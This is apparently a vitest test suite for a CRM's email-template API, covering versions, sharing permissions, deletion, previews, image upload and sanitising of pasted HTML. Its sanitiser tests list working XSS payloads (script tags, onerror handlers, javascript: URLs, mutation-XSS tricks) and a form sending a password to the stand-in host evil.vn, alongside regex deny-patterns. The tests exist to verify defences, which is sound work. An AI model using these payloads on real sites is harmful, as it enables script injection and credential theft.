import type { EmailBlock as Block } from '@crm/contract/email-blocks'
import type { EmailPreview, EmailTemplateView } from '@crm/contract/email-template'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type { z } from 'zod'
import { codeOf, customerCalls } from '../../testing/customer-calls.ts'
import { insertCustomer } from '../../testing/customers.ts'
import { type Caller, type Harness, openHarness } from '../../testing/harness.ts'

/** As a caller writes it: what has a usual value may be left out. */
type EmailBlock = z.input<typeof Block>

let h: Harness
let market: Caller
let admin: Caller
beforeAll(async () => {
  h = await openHarness({ RATE_LIMITS: 'false' })
})
beforeEach(async () => {
  await h.reset()
  market = await h.signIn('staff.market')
  admin = await h.signIn('admin')
})
afterAll(() => h.close())

const untouched = (work: () => Promise<unknown>) => customerCalls(h).untouched(work)
const path = '/api/EmailTemplate'
const hello: EmailBlock = { id: 'a1', kind: 'text', html: '<p>Chào {{customer.name|Quý khách}}!</p>' }
const footer: EmailBlock = { id: 'f1', kind: 'footer', html: '<p>{{company.name}}</p>', unsubscribe: 'Từ chối nhận' }
const documentOf = (...blocks: EmailBlock[]) => ({ color: '#0a71b1', background: '#f2f4f7', width: 600, blocks })
const draft = (wanted: object = {}) => ({
  name: 'Chào mừng',
  kind: 'blocks',
  subject: 'Chào {{customer.name|bạn}}',
  preheader: '',
  document: documentOf(hello, footer),
  source: null,
  ...wanted,
})
const send = (caller: Caller, wanted: object = {}) => caller.post(`${path}/AddEmailTemplate`, draft(wanted))
async function add(caller: Caller, wanted: object = {}): Promise<EmailTemplateView> {
  const answer = await send(caller, wanted)
  if (answer.statusCode !== 200) throw new Error(answer.body)
  return answer.json()
}
const read = (caller: Caller, templateId: number, query = '') =>
  caller.get(`${path}/GetEmailTemplateById/${templateId}/${caller.me.userId}${query}`)
const change = (caller: Caller, { templateId, version }: EmailTemplateView, wanted: object) =>
  caller.put(`${path}/UpdateEmailTemplate`, { templateId, version, ...wanted })
const remove = (caller: Caller, templateId: number, onlyMessage = false) =>
  caller.delete(`${path}/DeleteEmailTemplate/${templateId}/${caller.me.userName}/${onlyMessage}`)
const list = async (caller: Caller, query = '', viewAll = false) =>
  (await caller.get(`${path}/GetAllEmailTemplate/${caller.me.userId}/${viewAll}/1/20?count=true&${query}`)).json()
const preview = (caller: Caller, body: object) => caller.post(`${path}/PreviewEmailTemplate`, body)
const pasted = (source: string) => draft({ kind: 'html', source, document: null })

describe('a template', () => {
  it('is compiled once, with a text beside it, and found by name, folder and code', async () => {
    const view = await add(market, { folder: 'Khách mới' })
    expect(view).toMatchObject({ code: 'ME000001', number: 1, findings: [], canChange: true, usedBy: [], rules: [] })
    expect(view.html).toContain('Chào {{customer.name|Quý khách}}!')
    expect(view.html).toContain('href="{{link.unsubscribe}}"')
    // What is shown comes with it: nobody else learns who reads.
    expect(view.html).not.toMatch(/https?:\/\/(?!www\.w3\.org)/)
    expect(view.text).toContain('Chào {{customer.name|Quý khách}}!')
    for (const text of ['chao mung', 'ME000001', 'khach moi'])
      expect(await list(market, `text=${text}`)).toMatchObject({ total: 1, items: [{ templateId: view.templateId }] })
    expect((await list(market, 'folder=Khác')).total).toBe(0)
    const folders = await market.get(`${path}/GetCategoryEmailTemplate/${market.me.userId}/false/folder`)
    expect(folders.json()).toEqual([{ index: 1, name: 'Khách mới', folder: 'Khách mới' }])
  })

  it('gets a new version with a new content, and the former stays as it was', async () => {
    const first = await add(market)
    const renamed = (await change(market, first, { name: 'Tên khác' })).json<EmailTemplateView>()
    expect(renamed).toMatchObject({ number: 1, version: 2, name: 'Tên khác' })
    const second = (await change(market, renamed, { subject: 'Mới' })).json<EmailTemplateView>()
    expect(second).toMatchObject({ number: 2, version: 3, subject: 'Mới', html: first.html })
    expect(second.versions.map(({ number }) => number)).toEqual([2, 1])
    expect((await read(market, first.templateId, '?number=1')).json().subject).toBe(first.subject)
    expect(codeOf(await read(market, first.templateId, '?number=3'))).toEqual([404, 'request.notFound'])
    await untouched(async () =>
      expect(codeOf(await change(market, renamed, { subject: 'Muộn' }))).toEqual([409, 'request.staleVersion']),
    )
  })

  it('is its creator’s and admins’ to change; one that is not shared is not there for others', async () => {
    const own = await add(admin, { shared: false })
    const shared = await add(admin)
    await untouched(async () => {
      for (const answer of [await read(market, own.templateId), await change(market, own, { name: 'x' })])
        expect(codeOf(answer)).toEqual([404, 'request.notFound'])
      for (const answer of [await change(market, shared, { name: 'x' }), await remove(market, shared.templateId)])
        expect(codeOf(answer)).toEqual([403, 'template.notYours'])
    })
    expect((await list(market)).items).toMatchObject([{ templateId: shared.templateId, canChange: false }])
    const copy = await market.post(`${path}/DuplicateEmailTemplate`, { templateId: shared.templateId })
    expect(copy.json()).toMatchObject({ name: 'Chào mừng (2)', canChange: true, html: shared.html, number: 1 })
  })

  it('that a campaign is to send is not deleted, and says which; else it goes and comes back', async () => {
    const { templateId } = await add(market)
    const campaign = {
      channel: 'email' as const,
      name: 'Tháng 12',
      name_key: 'x',
      audience: '{}',
      template_id: templateId,
      department_id: market.me.departmentId,
      created_by: market.me.userId,
      updated_by: market.me.userId,
    }
    await h.db.insertInto('mass_campaign').values(campaign).execute()
    const usedBy = [{ campaignId: 1, code: 'CE000001', name: 'Tháng 12', state: 1, number: 0 }]
    expect((await remove(market, templateId, true)).json()).toEqual({
      usedBy,
      rules: [],
      outcomes: [],
      deletable: false,
    })
    await untouched(async () => {
      const answer = await remove(market, templateId)
      expect(codeOf(answer)).toEqual([409, 'template.inUse'])
      expect(answer.json().details).toEqual({ usedBy, rules: [], outcomes: [] })
    })
    await h.db.updateTable('mass_campaign').set({ state: 7 }).execute()
    expect((await remove(market, templateId)).statusCode).toBe(200)
    expect((await list(market)).total).toBe(0)
    expect((await list(market, 'deleted=true')).total).toBe(1)
    const recover = () => market.put(`${path}/RecoverDeleteEmailTemplate/${templateId}/${market.me.userName}`)
    expect((await recover()).statusCode).toBe(204)
    expect(codeOf(await recover())).toEqual([409, 'template.notDeleted'])
    const log = await h.db.selectFrom('activity_log').select(['message']).orderBy('log_id').execute()
    expect(log.map(({ message }) => message)).toEqual(['template.added', 'template.deleted', 'template.recovered'])
  })

  it('with a field that there is none of is refused with its place', () =>
    untouched(async () => {
      const answer = await send(market, { document: documentOf({ ...hello, html: '<p>a</p>\n{{customer.salary}}' }) })
      expect(codeOf(answer)).toEqual([422, 'merge.unknownField'])
      expect(answer.json().details).toEqual({
        data: 'customer.salary',
        faults: [{ part: 'a1', field: 'customer.salary', line: 2, column: 1 }],
      })
      for (const reserved of ['{{link.n1}}', '{{only.end}}', '{{only.g1}}'])
        expect(codeOf(await send(market, { subject: reserved }))).toEqual([422, 'merge.unknownField'])
    }))
})

describe('a preview', () => {
  it('reads as a customer whom the caller sees would have it; to others there is none', async () => {
    const customerId = await insertCustomer(h.db, h.company, {
      name: '{{customer.code}} <b>&',
      viewers: ['staff.market'],
    })
    const hidden = await insertCustomer(h.db, h.company, { name: 'Kín' })
    const { templateId } = await add(market)
    const shown = (await preview(market, { templateId, customerId })).json<EmailPreview>()
    expect(shown.subject).toBe('Chào {{customer.code}} <b>&')
    expect(shown.html).toContain('Chào {{customer.code}} &lt;b&gt;&amp;!')
    expect(shown.text).toContain('Chào {{customer.code}} <b>&!')
    expect(codeOf(await preview(market, { templateId, customerId: hidden }))).toEqual([404, 'request.notFound'])
  })

  it('shows a part to its groups alone', async () => {
    const groups = await h.db
      .insertInto('customer_group')
      .values([{ name: 'VIP' }, { name: 'Sỉ' }])
      .returning('customer_group_id as id')
      .execute()
    const [vip = 0, trade = 0] = groups.map(({ id }) => id)
    const only = (groupId: number, html: string): EmailBlock => ({
      id: `g${groupId}`,
      kind: 'group',
      groupIds: [groupId],
      blocks: [{ id: `t${groupId}`, kind: 'text', html }],
    })
    const customerId = await insertCustomer(h.db, h.company, { viewers: ['staff.market'] })
    await h.db.insertInto('customer_group_ref').values({ customer_id: customerId, customer_group_id: vip }).execute()
    const content = { kind: 'blocks', document: documentOf(only(vip, 'Cho VIP'), only(trade, 'Cho sỉ'), footer) }
    const shown = (await preview(market, { content, customerId })).json<EmailPreview>()
    for (const text of [shown.html, shown.text]) {
      expect(text).toContain('Cho VIP')
      expect(text).not.toMatch(/Cho sỉ|only\./)
    }
  })

  it('says what is wrong before it is sent', async () => {
    const blocks: EmailBlock[] = [
      { id: 'p', kind: 'picture', imageId: null, alt: '', width: 100, align: 'center', href: '' },
      { id: 'b', kind: 'button', label: 'Xem', href: '', align: 'center', color: null },
      { id: 't', kind: 'text', html: '<p>{{ten}} {{a.b}}</p>' },
    ]
    const { findings, missing } = (
      await preview(market, { content: { kind: 'blocks', document: documentOf(...blocks) } })
    ).json()
    const found = findings.map(({ check, severity }: { check: string; severity: string }) => `${check} ${severity}`)
    expect(found.sort()).toEqual([
      'emptyLink error',
      'looksLikeField warning',
      'noPicture error',
      'noSubject error',
      'noUnsubscribe error',
      'unknownField error',
    ])
    expect(missing).toEqual([])
    const long = await preview(market, { content: { kind: 'html', source: `<p>${'a'.repeat(110_000)}</p>` } })
    expect(long.json().findings).toContainEqual(expect.objectContaining({ check: 'tooLong', severity: 'warning' }))
  })
})

describe('what is pasted', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<a href="javascript:alert(1)">x</a><a href="data:text/html,<script>1</script>">y</a><a href=" java\nscript:alert(1)">z</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
    '<form action="https://evil.vn"><input name=password><button>Gửi</button></form>',
    '<meta http-equiv=refresh content="0;url=https://evil.vn"><base href="https://evil.vn">',
    '<style>@import url(https://evil.vn/x.css); p{background:url(https://evil.vn/p.png);position:fixed}</style><p>a</p>',
    '<p style="background:url(https://evil.vn/x.png);width:expression(alert(1));-moz-binding:url(x)">a</p>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--><script>alert(1)</script>--><!--[if mso]><script>alert(1)</script><![endif]-->',
  ]

  it.each(hostile)('runs, loads and sends nothing: %s', async (source) => {
    const { html } = await add(market, pasted(source))
    expect(html).not.toMatch(
      /<(?:script|svg|iframe|object|embed|form|input|button|base|style|math|noscript)|<meta http-equiv/i,
    )
    expect(html).not.toMatch(/javascript:|data:|url\(|expression|binding|position\s*:|@import/i)
    for (const tag of html.match(/<[^>]*>/g) ?? []) expect(tag.replace(/"[^"]*"/g, '')).not.toMatch(/\son\w+\s*=/i)
    const blocks = await add(market, { document: documentOf({ id: 't', kind: 'text', html: source }, footer) })
    expect(blocks.html).not.toMatch(
      /<(?:script|svg|iframe|object|embed|form|input)|\son(?:error|load)\s*=|javascript:|evil\.vn/i,
    )
  })

  it('keeps its look: style sheets go into the elements, classes of programs go', async () => {
    const { html } = await add(market, pasted('<style>.a{color:#ff0000}</style><p class="a">Đỏ</p>'))
    expect(html).toMatch(/<p[^>]*style="color:\s?#ff0000;?"[^>]*>Đỏ/)
  })

  it('has its links by number, so that each leads where the stored version says', async () => {
    const source =
      '<a href="https://congty.vn/a?ma={{customer.code}}">A</a><a href="https://congty.vn/a?ma={{customer.code}}">B</a><a href="https://{{customer.email}}/">C</a>'
    const { html, findings, templateId } = await add(market, pasted(source))
    expect(html.match(/\{\{link\.n1\}\}/g)).toHaveLength(2)
    expect(findings.map(({ check }) => check)).toContain('badLink')
    const links = await h.db.selectFrom('marketing_link').selectAll().execute()
    expect(links).toMatchObject([{ link_no: 1, target: 'https://congty.vn/a?ma={{customer.code}}' }])
    const shown = (await preview(market, { templateId })).json<EmailPreview>()
    expect(shown.html).not.toContain('link.n')
  })

  it('that would keep the machine busy is refused', async () => {
    const css = 'p.a>b{color:red}'.repeat(6_000)
    const source = `<style>${css}</style>${'<p class="a">x</p>'.repeat(6_000)}`
    expect(codeOf(await send(market, pasted(source)))).toEqual([422, 'template.contentRefused'])
  })
})

describe('a picture', () => {
  const png = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    'base64',
  )
  async function upload(bytes: Buffer) {
    const form = new FormData()
    form.append('File', new Blob([new Uint8Array(bytes)]), 'ảnh.png')
    const request = new Response(form)
    const headers = { 'content-type': request.headers.get('content-type') ?? '' }
    return market.post(`${path}/UploadImage`, Buffer.from(await request.arrayBuffer()), { headers })
  }

  it('is drawn anew and seen by whoever has its address, without signing in', async () => {
    const { address, imageId } = (await upload(Buffer.concat([png, Buffer.from('<script>')]))).json()
    const seen = await h.app.inject({ url: address })
    expect(seen.headers).toMatchObject({ 'content-type': 'image/png', 'cross-origin-resource-policy': 'cross-origin' })
    expect(seen.rawPayload.includes('<script>')).toBe(false)
    const block: EmailBlock = { id: 'p', kind: 'picture', imageId, alt: 'Ảnh', width: 50, align: 'left', href: '' }
    expect((await add(market, { document: documentOf(block, footer) })).html).toContain(`src="${address}"`)
  })

  it('that is none is refused, and an unknown address is not there', async () => {
    expect(codeOf(await upload(Buffer.from('<svg onload=alert(1)>')))).toEqual([415, 'template.pictureRefused'])
    for (const id of ['none', '00000000-0000-4000-8000-000000000000'])
      expect((await h.app.inject({ url: `/i/${id}` })).statusCode).toBe(404)
  })
})
